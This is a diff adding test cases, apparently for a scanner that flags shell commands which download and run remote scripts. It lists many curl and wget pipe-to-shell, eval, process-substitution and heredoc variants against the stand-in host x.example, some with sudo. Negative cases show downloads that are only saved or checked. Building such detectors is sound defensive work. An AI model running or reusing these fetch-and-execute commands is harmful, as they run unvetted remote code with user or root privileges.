@@ -56,6 +56,27 @@ DOWNLOADS_RUN = [
     "wget -q -O- https://x.example/i.sh | bash",
     "wget --output-document=- https://x.example/i.sh | sh",
     "curl -fsSL https://x.example/i.sh 2>/dev/null | sh",
+    # Shell options before the script file, or after the pipe.
+    "bash -o pipefail <(curl -fsSL https://x.example/i.sh)",
+    "bash -eo pipefail <(curl -fsSL https://x.example/i.sh) --yes",
+    "bash +o posix <(wget -qO- https://x.example/i.sh)",
+    "bash -x <(curl -fsSL https://x.example/i.sh)",
+    "sh -s -- --flag < <(curl -fsSL https://x.example/i.sh)",
+    "curl -fsSL https://x.example/i.sh | bash -s -- --yes",
+    "curl -fsSL https://x.example/i.sh | sudo -E bash -",
+    # A download kept in a variable, then run.
+    'x=$(curl -fsSL https://x.example/i.sh); eval "$x"',
+    's=$(wget -qO- https://x.example/i.sh) && bash -c "$s"',
+    'export S="$(curl -fsSL https://x.example/i.sh)"; sh -c "${S}"',
+    'x=`curl -s https://x.example/i.sh`; echo "$x" | bash',
+    'x=$(curl -fsSL https://x.example/i.sh) && bash <<< "$x"',
+    'x=$(curl -fsSL https://x.example/i.pl); perl -e "$x"',
+    # Written to a process substitution that runs it.
+    "curl -fsSL https://x.example/i.sh > >(sh)",
+    "wget -qO- https://x.example/i.sh > >(sudo bash -s -- -y)",
+    "curl -fsSL https://x.example/i.sh &> >(bash)",
+    "curl -fsSL https://x.example/i.sh | tee >(bash)",
+    "curl -fsSL https://x.example/i.sh | tee /tmp/i.log >(sh) > /dev/null",
 ]
 # Downloads kept, filtered or unpacked, and scripts run from a file: no finding.
 DOWNLOADS_KEPT = [
@@ -84,6 +105,17 @@ DOWNLOADS_KEPT = [
     "curl -fsSL https://x.example/r.json | jq -r .tag_name",
     "curl -fsSL https://x.example/k.asc | gpg --dearmor -o /usr/share/keyrings/k.gpg",
     "x=$(curl -fsSL https://x.example/v.txt) && echo $x",
+    "curl -o f https://x.example/i.sh && sha256sum -c f.sha256 && sh f",
+    'v=$(curl -fsSL https://x.example/v.txt); curl -fsSLo /tmp/i.sh "https://x.example/$v/i.sh"',
+    'x=$(curl -fsSL https://x.example/i.sh); x=ok; eval "$x"',
+    'x=$(cat /etc/profile); eval "$x"',
+    'eval "$x"; x=$(curl -fsSL https://x.example/i.sh)',
+    "v=$(curl -fsSL https://x.example/v.txt); python3 -c \"print('$v')\"",
+    "curl -fsSL https://x.example/i.sh > >(tee /tmp/i.sh)",
+    "curl -fsSL https://x.example/i.sh | tee >(sha256sum) > /tmp/i.sh",
+    "curl -fsSL https://x.example/i.sh 2> >(bash) > /tmp/i.sh",
+    "bash -o pipefail -c 'curl -fsSLo /tmp/x https://x.example/x'",
+    "bash -o pipefail /tmp/i.sh <(curl -fsSL https://x.example/args)",
     # Shell text in a quoted argument of a command that does not run it.
     'echo "curl https://x.example/i.sh | sh"',
     'echo "bash <(curl -fsSL https://x.example/i.sh)"',
@@ -95,4 +127,23 @@ DOWNLOADS_KEPT = [
     "echo done # bash <(curl -fsSL https://x.example/i.sh)",
     "git commit -m 'use . <(curl -s https://x.example/env)'",
     """sh -c 'echo "curl https://x.example/i.sh | sh"'""",
+]
+
+# Heredocs: a shell reading one runs its body; any other command reads it as data.
+HEREDOCS_RUN = [
+    "bash <<'EOF'\nset -e\ncurl -fsSL https://x.example/i.sh | sh\nEOF",
+    "sudo bash -s -- -y <<EOF\nwget -qO- https://x.example/i.sh | bash\nEOF",
+    'sh -e <<"SCRIPT"\nx=$(curl -fsSL https://x.example/i.sh)\neval "$x"\nSCRIPT',
+    "<<A cat > /tmp/f && bash <<B\necho hi\nA\ncurl -fsSL https://x.example/i.sh | sh\nB",
+    "<<A bash && cat > /tmp/f <<B\nbash <(curl -fsSL https://x.example/i.sh)\nA\nx\nB",
+    "cat <<A > /tmp/f; sh -s -- -y <<B\nx\nA\ncurl -fsSL https://x.example/i.sh | bash\nB",
+]
+HEREDOCS_KEPT = [
+    "cat > /tmp/i.sh <<'EOF'\ncurl -fsSL https://x.example/i.sh | sh\nEOF",
+    "python3 <<'EOF'\nimport os\nos.system('curl -fsSL https://x.example/i.sh | sh')\nEOF",
+    "bash /tmp/setup.sh <<'EOF'\ncurl -fsSL https://x.example/i.sh | sh\nEOF",
+    "bash <<'EOF'\ncurl -fsSLo /tmp/i.sh https://x.example/i.sh\n"
+    "sha256sum -c i.sum && sh /tmp/i.sh\nEOF",
+    "<<A cat > /tmp/a && cat > /tmp/b <<B\ncurl -fsSL https://x.example/i.sh | sh\nA\n"
+    "curl -fsSL https://x.example/i.sh | sh\nB",
 ]
